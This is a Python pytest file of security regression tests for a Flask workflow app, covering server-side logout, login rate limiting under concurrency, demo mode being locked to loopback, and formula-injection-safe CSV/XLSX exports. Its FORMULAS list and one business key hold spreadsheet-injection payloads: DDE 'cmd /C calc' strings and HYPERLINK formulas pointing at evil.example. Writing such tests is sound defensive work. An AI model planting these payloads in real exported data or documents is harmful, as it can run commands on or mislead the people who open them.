"""Sessions end on the server, sign-in attempts are counted before they are checked, demo mode stays on this
machine, and no exported cell is a live formula."""

import base64
import http.client
import io
import uuid
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import urlparse

import pytest
from openpyxl import load_workbook

from app import create_app
from app.config import DEMO_SECRET_KEY, Config
from app.services.exports import Table, export
from tests.support import diagrams as d
from tests.support.deployments import deploy_files
from tests.support.web_client import Web

FORMULAS = ['=HYPERLINK("http://evil.example/","点我")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_a_copied_session_cookie_no_longer_works_after_logout(app):
    web = Web(app, "window_cg")
    copied = app.test_client()
    name = app.config["SESSION_COOKIE_NAME"]
    copied.set_cookie(name, web.client.get_cookie(name).value)
    assert copied.get("/inbox").status_code == 200  # the copy works while the session lives
    assert web.post("/logout").status_code == 302
    after = copied.get("/inbox")
    assert after.status_code == 302 and after.location.startswith("/login"), after.status_code


def test_concurrent_wrong_passwords_reach_the_check_at_most_the_limit(app, live_url):
    username = f"guess_{uuid.uuid4().hex[:8]}"
    headers = "Basic " + base64.b64encode(f"{username}:wrong".encode()).decode()

    with ThreadPoolExecutor(30) as pool:
        statuses = list(pool.map(lambda _: _status(live_url, headers), range(30)))
    assert set(statuses) <= {401, 429}
    assert statuses.count(401) <= app.config["LOGIN_MAX_FAILURES"], statuses
    assert statuses.count(429) >= 30 - app.config["LOGIN_MAX_FAILURES"]


def _status(base: str, authorization: str) -> int:
    url = urlparse(base)
    conn = http.client.HTTPConnection(url.hostname, url.port, timeout=60)
    try:
        conn.request("GET", "/engine-rest/task", headers={"Authorization": authorization})
        return conn.getresponse().status
    finally:
        conn.close()


@pytest.mark.parametrize("environment, words", [
    ({"DEMO": "1", "HOST": "0.0.0.0"}, "loopback"),
    ({"DEMO": "1", "FLASK_RUN_HOST": "192.168.1.20"}, "loopback"),
    ({"DEMO": "0", "SECRET_KEY": DEMO_SECRET_KEY}, "demo SECRET_KEY"),
])
def test_the_service_refuses_to_start_with_demo_secrets_reachable_from_elsewhere(monkeypatch, environment, words):
    for name in ("HOST", "FLASK_RUN_HOST", "SECRET_KEY"):
        monkeypatch.delenv(name, raising=False)
    for name, value in environment.items():
        monkeypatch.setenv(name, value)
    with pytest.raises(RuntimeError, match=words):
        Config()


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "::1", "127.0.0.2"])
def test_demo_mode_starts_on_a_loopback_address(monkeypatch, host):
    monkeypatch.setenv("DEMO", "1")
    monkeypatch.setenv("HOST", host)
    monkeypatch.delenv("SECRET_KEY", raising=False)
    assert Config().SECRET_KEY == DEMO_SECRET_KEY


def test_demo_mode_answers_no_other_machine(monkeypatch):
    monkeypatch.delenv("HOST", raising=False)
    monkeypatch.delenv("FLASK_RUN_HOST", raising=False)
    demo = create_app(Config(DATABASE_URL="sqlite://", SECRET_KEY=DEMO_SECRET_KEY, DEMO=True, TESTING=True,
                             SCHEDULER=False))
    try:
        client = demo.test_client()
        assert client.get("/engine-rest/version").status_code == 200
        elsewhere = client.get("/engine-rest/version", environ_base={"REMOTE_ADDR": "10.0.0.9"})
        assert elsewhere.status_code == 403 and elsewhere.json["field"] == "DEMO"
    finally:
        demo.extensions["db_engine"].dispose()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_exported_cell_that_looks_like_a_formula_is_text(fmt):
    data, _, _ = export(Table("t", "t", ["值", "数"], [[text, 1] for text in FORMULAS] + [["普通", -2]]), fmt)
    if fmt == "csv":
        lines = data.decode("utf-8-sig").splitlines()
        assert all(line.lstrip('"').startswith("'") for line in lines[1:1 + len(FORMULAS)] if line), lines
        assert lines[-1] == "普通,-2"
    else:
        cells = list(load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2, values_only=False))
        assert [row[0].value for row in cells[:len(FORMULAS)]] == FORMULAS
        assert {row[0].data_type for row in cells} == {"s"} and cells[-1][1].value == -2


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_business_key_written_as_a_formula_is_exported_as_text(login_as, clock, fmt):
    key = f"late_{uuid.uuid4().hex[:8]}"
    assert deploy_files(login_as("designer"), {f"{key}.bpmn": d.user_task(
        key, dueDate="${add_days(now(), -3)}")}).status_code == 200
    business_key = f'=HYPERLINK("http://evil.example/?{key}","点我")'
    started = login_as("window_cg").post(f"/process-definition/key/{key}/start", {"businessKey": business_key})
    assert started.status_code == 200, started.json
    supervisor = login_as("supervisor")
    response = supervisor.client.get("/api/supervision/tasks", query_string={"format": fmt, "process": key},
                                     headers=supervisor.headers)
    assert response.status_code == 200
    if fmt == "csv":
        assert f"'{business_key}".replace('"', '""') in response.get_data(as_text=True)
    else:
        sheet = load_workbook(io.BytesIO(response.data)).active
        cells = [c for row in sheet.iter_rows() for c in row if c.value == business_key]
        assert cells and all(c.data_type == "s" for c in cells)


def test_the_right_password_sent_from_many_threads_at_once_is_never_refused(app, live_url):
    from app.services.users import forget_credentials

    forget_credentials()  # every thread must sign in through the count, none from the cache
    headers = "Basic " + base64.b64encode(b"finance2:demo123").decode()
    with ThreadPoolExecutor(12) as pool:
        statuses = list(pool.map(lambda _: _status(live_url, headers), range(12)))
    assert statuses == [200] * 12, statuses
